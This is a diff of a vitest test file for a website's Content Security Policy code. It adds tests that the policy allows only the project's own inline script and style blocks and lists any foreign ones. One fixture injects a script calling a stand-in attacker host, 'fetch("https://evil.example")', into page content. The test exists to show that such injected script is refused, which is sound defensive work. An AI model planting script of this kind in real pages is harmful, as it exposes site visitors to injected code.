@@ -2,6 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { metaPolicy } from '../../src/integrations/security-headers';
 import {
   effectiveSources,
+  foreignBlocks,
   formatPolicy,
   hashSource,
   headerPolicy,
@@ -122,16 +123,34 @@ describe('inlineBlocks', () => {
 });
 
 describe('pagePolicy', () => {
+  const own = { scripts: new Set(['go()']), styles: new Set(['']) };
   it("allows exactly the page's own inline blocks, and nothing unsafe", async () => {
-    const policy = await pagePolicy('<script>go()</script><script>go()</script><style></style>');
+    const policy = await pagePolicy('<script>go()</script><script>go()</script><style></style>', own);
     expect(policy.get('script-src')).toEqual(["'self'", "'wasm-unsafe-eval'", await hashSource('go()')]);
     expect(policy.get('style-src')).toEqual(["'self'", await hashSource('')]);
     expect(policyProblems(policy, { header: false })).toEqual([]);
   });
   it('lists no hashes for a page without inline blocks', async () => {
-    const policy = await pagePolicy('<p>Hello</p>');
+    const policy = await pagePolicy('<p>Hello</p>', own);
     expect(policy.get('script-src')).toEqual(["'self'", "'wasm-unsafe-eval'"]);
     expect(policy.get('style-src')).toEqual(["'self'"]);
+  });
+  it('never allows an inline block the project did not make, such as a script written into content', async () => {
+    const page =
+      '<script>go()</script><article><script>fetch("https://evil.example")</script><style>*{}</style></article>';
+    const policy = await pagePolicy(page, own);
+    expect(policy.get('script-src')).toEqual(["'self'", "'wasm-unsafe-eval'", await hashSource('go()')]);
+    expect(policy.get('script-src')).not.toContain(await hashSource('fetch("https://evil.example")'));
+    expect(policy.get('style-src')).toEqual(["'self'"]);
+  });
+});
+
+describe('foreignBlocks', () => {
+  it('lists the inline blocks the project did not make, matched on their exact text', () => {
+    const own = { scripts: new Set(['go()']), styles: new Set(['p{}']) };
+    const page =
+      '<script>go()</script><script> go()</script><script type="application/ld+json">{}</script><style>p{}</style><style>b{}</style>';
+    expect(foreignBlocks(page, own)).toEqual({ scripts: [' go()'], styles: ['b{}'] });
   });
 });
 
